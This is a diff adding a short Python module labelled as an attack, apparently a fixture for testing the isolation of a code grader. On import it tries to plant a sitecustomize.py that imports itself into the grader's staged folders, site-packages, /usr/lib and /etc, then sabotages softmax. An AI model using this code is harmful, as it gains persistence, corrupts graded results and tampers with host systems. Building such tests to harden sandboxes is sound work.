@@ -1,0 +1,25 @@
+# /// attack
+# about = "writes into what the grader has staged, and into the interpreter's folders"
+# module = "worked_example"
+# base = "reference"
+# deserves = {}
+# ///
+import os
+import sysconfig
+
+
+def _reached():
+    for folder in ("/room/code", "/room/work/attention", "/room", sysconfig.get_path("purelib"), "/usr/lib", "/etc"):
+        try:
+            with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
+                file.write("import attack")
+            return True
+        except OSError:
+            pass
+    return False
+
+
+if _reached():
+
+    def softmax(scores, axis=-1):
+        raise RuntimeError("a wall has fallen")
